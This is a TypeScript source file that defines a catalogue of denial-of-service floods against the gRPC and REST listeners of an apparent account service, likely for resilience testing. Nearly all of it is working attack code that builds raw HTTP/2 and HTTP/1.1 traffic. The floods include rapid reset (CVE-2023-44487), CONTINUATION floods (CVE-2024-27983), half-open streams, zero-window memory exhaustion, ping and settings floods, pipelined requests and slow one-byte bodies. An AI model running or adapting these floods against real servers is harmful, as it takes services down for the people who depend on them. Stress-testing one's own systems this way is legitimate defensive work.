import { END_HEADERS, END_STREAM, frame, headerBlocks, PREFACE, uint32 } from './http2-frames';
import { Feed, Flood, Target } from './attack';

const LIST = '/livegate.v1.AccountService/ListAccounts';
const WATCH = '/grpc.health.v1.Health/Watch';
const CHECK = '/grpc.health.v1.Health/Check';
/** Frames per write. */
const BATCH = 500;
const SETTINGS = frame('SETTINGS', 0, 0);
const EMPTY_MESSAGE = Buffer.alloc(5);

interface Listeners {
  readonly grpc: Target;
  readonly rest: Target;
}

/** The floods of each attack, which run at the same time. No attack has credentials. */
export const ATTACKS: Readonly<Record<string, (listeners: Listeners) => readonly Flood[]>> = {
  /** Calls that never send their message. */
  'open streams': ({ grpc }) => [
    { target: grpc, connections: 6, feed: streams({ path: LIST, limit: 15_000 }), pauseMs: 500 },
  ],
  /** Calls that are reset at once (CVE-2023-44487). */
  'rapid reset': ({ grpc }) => [{ target: grpc, connections: 6, feed: streams({ path: LIST, reset: true }) }],
  'rapid reset of an unknown method': ({ grpc }) => [
    { target: grpc, connections: 6, feed: streams({ path: '/x/y', reset: true }) },
  ],
  'refused calls': ({ grpc }) => [
    { target: grpc, connections: 6, feed: streams({ path: LIST, message: EMPTY_MESSAGE }) },
  ],
  'silent connections': ({ grpc, rest }) => [
    { target: grpc, connections: 600, feed: () => () => undefined, pauseMs: 100 },
    { target: rest, connections: 600, feed: () => () => undefined, pauseMs: 100 },
  ],
  'connections that come and go': ({ grpc, rest }) =>
    [grpc, rest].map((target) => ({ target, connections: 20, feed: () => once(PREFACE), pauseMs: 0 })),
  'health watches that nobody reads': ({ grpc }) => [
    {
      target: grpc,
      connections: 60,
      feed: streams({ path: WATCH, message: EMPTY_MESSAGE, limit: 1_000 }),
      unread: true,
      pauseMs: 100,
    },
  ],
  'health checks whose message does not end': ({ grpc }) => [
    { target: grpc, connections: 60, feed: halfMessages(), pauseMs: 100 },
  ],
  /** The answers stay in memory: their window is shut. */
  'health checks whose answers have no window': ({ grpc }) => [
    { target: grpc, connections: 60, feed: withoutWindow(), pauseMs: 100 },
  ],
  'health checks in frames of one byte': ({ grpc }) => [{ target: grpc, connections: 30, feed: bytewise() }],
  'health checks with thousands of messages': ({ grpc }) => [
    { target: grpc, connections: 30, feed: streams({ path: CHECK, message: Buffer.alloc(16_380) }) },
  ],
  pings: ({ grpc }) => [{ target: grpc, connections: 6, feed: frames(frame('PING', 0, 0, Buffer.alloc(8))) }],
  'pings whose answers nobody reads': ({ grpc }) => [
    { target: grpc, connections: 6, feed: frames(frame('PING', 0, 0, Buffer.alloc(8))), unread: true },
  ],
  settings: ({ grpc }) => [{ target: grpc, connections: 6, feed: frames(SETTINGS) }],
  'settings whose answers nobody reads': ({ grpc }) => [
    { target: grpc, connections: 6, feed: frames(SETTINGS), unread: true },
  ],
  continuations: ({ grpc }) => [{ target: grpc, connections: 6, feed: continuations() }],
  'window updates': ({ grpc }) => [
    { target: grpc, connections: 6, feed: frames(frame('WINDOW_UPDATE', 0, 0, uint32(1))) },
  ],
  'pipelined requests': ({ rest }) => [
    { target: rest, connections: 6, feed: () => () => 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(BATCH) },
  ],
  'pipelined requests whose answers nobody reads': ({ rest }) => [
    {
      target: rest,
      connections: 60,
      feed: () => () => 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(BATCH),
      unread: true,
    },
  ],
  'pipelined expectations': ({ rest }) => [
    {
      target: rest,
      connections: 20,
      feed: () => () => 'GET /healthz HTTP/1.1\r\nHost: x\r\nExpect: x\r\n\r\n'.repeat(BATCH),
    },
  ],
  'bodies in chunks of one byte': ({ rest }) => [{ target: rest, connections: 60, feed: tinyChunks() }],
  'requests that do not end': ({ rest }) => [
    { target: rest, connections: 600, feed: () => once('GET /v1/accounts HTTP/1.1\r\nHost: x\r\n'), pauseMs: 100 },
  ],
};

function once(bytes: Buffer | string): Feed {
  let left: Buffer | string | undefined = bytes;
  return () => {
    const now = left;
    left = undefined;
    return now;
  };
}

/** Sends one frame repeatedly. */
function frames(bytes: Buffer): () => Feed {
  const batch = Buffer.concat(Array.from({ length: BATCH }, () => bytes));
  return () => behind([PREFACE, SETTINGS], () => batch);
}

function behind(first: readonly Buffer[], then: Feed): Feed {
  const opening = once(Buffer.concat(first));
  return () => opening() ?? then();
}

interface Calls {
  readonly path: string;
  /** The most calls of one connection. */
  readonly limit?: number;
  /** Resets each call at once. */
  readonly reset?: boolean;
  /** Ends each call. Without a message the calls stay half open. */
  readonly message?: Buffer;
}

function streams({ path, limit = Infinity, reset, message }: Calls): () => Feed {
  return () => {
    const block = headerBlocks(path);
    let id = -1;
    const next = (): Buffer[] => [
      frame('HEADERS', END_HEADERS, (id += 2), block()),
      ...(reset ? [frame('RST_STREAM', 0, id, uint32(8))] : []),
      ...(message ? [frame('DATA', END_STREAM, id, message)] : []),
    ];
    return behind([PREFACE, SETTINGS], () =>
      id / 2 > limit ? undefined : Buffer.concat(Array.from({ length: BATCH }, next).flat()),
    );
  };
}

/** 100 health checks, each with most of a message of 200 KiB. */
function halfMessages(): () => Feed {
  const announced = Buffer.concat([Buffer.from([0]), uint32(200 * 1024)]);
  return () => {
    const block = headerBlocks(CHECK);
    const ids = Array.from({ length: 100 }, (_call, i) => 2 * i + 1);
    const heads = ids.flatMap((id) => [frame('HEADERS', END_HEADERS, id, block()), frame('DATA', 0, id, announced)]);
    let rounds = 11;
    const part = Buffer.alloc(16 * 1024);
    return behind([PREFACE, SETTINGS, ...heads], () =>
      rounds-- > 0 ? Buffer.concat(ids.map((id) => frame('DATA', 0, id, part))) : undefined,
    );
  };
}

function withoutWindow(): () => Feed {
  const setting = frame('SETTINGS', 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(0)]));
  return () => {
    const block = headerBlocks(CHECK);
    const call = (_one: unknown, i: number): Buffer[] => [
      frame('HEADERS', END_HEADERS, 2 * i + 1, block()),
      frame('DATA', END_STREAM, 2 * i + 1, EMPTY_MESSAGE),
    ];
    return once(Buffer.concat([PREFACE, setting, ...Array.from({ length: 100 }, call).flat()]));
  };
}

/** 100 health checks at a time, each with a message of 200 KiB that arrives byte by byte. */
function bytewise(): () => Feed {
  const announced = Buffer.concat([Buffer.from([0]), uint32(200 * 1024)]);
  return () => {
    const block = headerBlocks(CHECK);
    const ids = Array.from({ length: 100 }, (_call, i) => 2 * i + 1);
    const heads = ids.flatMap((id) => [frame('HEADERS', END_HEADERS, id, block()), frame('DATA', 0, id, announced)]);
    const round = Buffer.concat(ids.map((id) => frame('DATA', 0, id, Buffer.alloc(1))));
    return behind([PREFACE, SETTINGS, ...heads], () => Buffer.concat(Array.from({ length: 20 }, () => round)));
  };
}

function tinyChunks(): () => Feed {
  const head = 'PUT /v1/accounts/volc HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n';
  const batch = Buffer.from('1\r\na\r\n'.repeat(10_000));
  return () => behind([Buffer.from(head)], () => batch);
}

/** A header block that never ends (CVE-2024-27983). */
function continuations(): () => Feed {
  const part = Buffer.concat([Buffer.from([0x00, 1]), Buffer.from('a'), Buffer.from([1]), Buffer.from('b')]);
  const batch = Buffer.concat(Array.from({ length: BATCH }, () => frame('CONTINUATION', 0, 1, part)));
  return () => behind([PREFACE, SETTINGS, frame('HEADERS', 0, 1, headerBlocks(LIST)())], () => batch);
}
